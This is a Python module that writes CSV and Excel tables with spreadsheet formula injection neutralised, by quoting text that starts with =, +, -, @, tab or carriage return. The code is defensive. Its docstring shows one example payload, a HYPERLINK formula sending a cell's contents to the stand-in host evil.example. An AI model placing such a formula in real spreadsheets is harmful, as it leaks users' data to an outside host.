"""Tables written so that no spreadsheet runs them: CSV and Excel without live formulas.

A name such as ``=HYPERLINK("http://evil.example/?x="&A2,"点我")`` read from an
imported file is data. Written as it is, Excel and LibreOffice take it for a
formula (OWASP "CSV injection"). Every table gridmap writes for people to open
goes through :func:`write_csv`, :func:`write_xlsx` or :func:`write_table`:

* in CSV, a text field (or header) starting with ``=``, ``+``, ``-``, ``@``, tab
  or carriage return gets a leading ``'``, which spreadsheets show as text;
* in Excel, such a cell is stored as a string with the quote-prefix style (what
  Excel itself does when a user types ``'=...``), never as a formula.

Only text is touched: the number ``-5`` stays a number, the text ``"-5"`` is
neutralised.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping, Sequence
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final

import numpy as np
import pandas as pd

from gridmap._xlsx import Quoted, SheetData, write_workbook

if TYPE_CHECKING:  # openpyxl loads only where a workbook is written through it
    from openpyxl.worksheet.worksheet import Worksheet

__all__ = [
    "FORMULA_PREFIXES",
    "csv_safe",
    "is_formula_like",
    "neutralise",
    "protect_sheet",
    "stream_xlsx",
    "write_csv",
    "write_table",
    "write_xlsx",
]

#: First characters that make a spreadsheet read a text as a formula (OWASP).
FORMULA_PREFIXES: Final = ("=", "+", "-", "@", "\t", "\r")

SheetHook = Callable[[str, "Worksheet"], None]


def is_formula_like(value: object) -> bool:
    """True for a text a spreadsheet would evaluate (it starts with a formula prefix)."""
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def neutralise(value: object) -> object:
    """``value`` with a leading ``'`` if it is formula-like text, else unchanged."""
    return f"'{value}" if is_formula_like(value) else value


def csv_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text values and headers are neutralised for CSV."""
    out = frame.rename(columns={c: neutralise(c) for c in frame.columns if is_formula_like(c)})
    for position in range(out.shape[1]):
        column = out.iloc[:, position]
        if column.dtype == object or pd.api.types.is_string_dtype(column.dtype):
            out.isetitem(position, column.map(neutralise).to_numpy(dtype=object))
    return out


def protect_sheet(sheet: Worksheet) -> int:
    """Store every formula-like text cell of ``sheet`` as quoted text; return how many."""
    count = 0
    for row in sheet.iter_rows():
        for cell in row:
            if is_formula_like(cell.value):
                cell.data_type = "s"  # openpyxl made it "f" because it starts with "="
                cell.quotePrefix = True
                count += 1
    return count


def write_csv(frame: pd.DataFrame, path: Path | str) -> Path:
    """Write ``frame`` without its index as UTF-8 CSV with BOM (Excel reads the Chinese).

    Lines end in CRLF (RFC 4180), so a field holding a bare carriage return is quoted.
    """
    target = Path(path)
    csv_safe(frame).to_csv(target, index=False, encoding="utf-8-sig", lineterminator="\r\n")
    return target


def write_xlsx(
    path: Path | str, sheets: Mapping[str, pd.DataFrame], *, on_sheet: SheetHook | None = None
) -> Path:
    """Write one sheet per frame (no index); ``on_sheet(name, worksheet)`` may format each."""
    target = Path(path)
    with pd.ExcelWriter(target, engine="openpyxl") as writer:
        for name, frame in sheets.items():
            frame.to_excel(writer, sheet_name=name, index=False)
            sheet = writer.sheets[name]
            protect_sheet(sheet)
            if on_sheet is not None:
                on_sheet(name, sheet)
    return target


def _plain_column(values: pd.Series) -> list[Any]:
    """A column as Python values, missing ones (NaN, NA, NaT) as None (an empty cell)."""
    plain = values.astype(object)
    return plain.where(values.notna(), None).tolist()


def _width(header: object, values: pd.Series) -> float:
    """Column width from the longest text shown (as :func:`write_xlsx` callers size them)."""
    longest = max(_longest_text(values), len(str(header)))
    return min(40.0, 4 + 1.6 * longest)


def _longest_text(values: pd.Series) -> int:
    """Characters of the longest value as text (missing values show nothing)."""
    present = values[values.notna()]
    if len(present) == 0:
        return 0
    if isinstance(present.dtype, np.dtype) and present.dtype.kind in "biuf":
        distinct = np.unique(present.to_numpy()).tolist()  # one numpy type: no 1 == 1.0
        return max(map(len, map(str, distinct)))
    plain = present.astype(object).to_numpy()
    if set(map(type, plain)) <= {str}:
        return int(max(map(len, pd.unique(plain))))
    return int(present.astype(object).astype(str).str.len().max())


def _safe_column(values: pd.Series) -> list[Any]:
    """A column as Python values (missing ones as None), formula-like text as quoted text."""
    plain = _plain_column(values)
    kinds = set(map(type, plain))
    if not any(issubclass(k, str) for k in kinds):
        return plain
    if kinds <= {str, type(None)}:  # each distinct text checked once
        codes, distinct = pd.factorize(np.array(plain, dtype=object))
        flagged = [is_formula_like(v) for v in distinct.tolist()]
        if not any(flagged):
            return plain
        safe = np.empty(len(distinct) + 1, dtype=object)
        safe[:-1] = [Quoted(v) if f else v for v, f in zip(distinct.tolist(), flagged, strict=True)]
        safe[-1] = None
        quoted: list[Any] = safe[codes].tolist()
        return quoted
    return [Quoted(v) if is_formula_like(v) else v for v in plain]


def stream_xlsx(
    path: Path | str,
    sheets: Mapping[str, pd.DataFrame],
    *,
    number_formats: Mapping[str, Sequence[str]] | None = None,
) -> Path:
    """Write one sheet per frame, rows streamed as text into the file (:mod:`gridmap._xlsx`).

    For large tables (:func:`write_xlsx` builds every cell as an object first). The
    header row is bold and frozen, column widths follow the longest text, and
    ``number_formats[sheet]`` gives each column's number format (``""`` for none).
    Formula-like text (and headers) are stored as quoted text; no cell is a formula.
    """
    data = []
    for name, frame in sheets.items():
        formats = list((number_formats or {}).get(name, ())) or [""] * frame.shape[1]
        header = [Quoted(str(h)) if is_formula_like(h) else h for h in frame.columns]
        widths = [_width(h, frame.iloc[:, i]) for i, h in enumerate(frame.columns)]
        columns = [_safe_column(frame.iloc[:, i]) for i in range(frame.shape[1])]
        data.append(SheetData(name, header, (), formats, widths, len(frame), columns))
    return write_workbook(path, data)


def write_table(frame: pd.DataFrame, path: Path | str) -> Path:
    """Write ``frame`` as one sheet if ``path`` ends in ``.xlsx``, else as CSV."""
    target = Path(path)
    if target.suffix.lower() == ".xlsx":
        return write_xlsx(target, {"Sheet1": frame})
    return write_csv(frame, target)
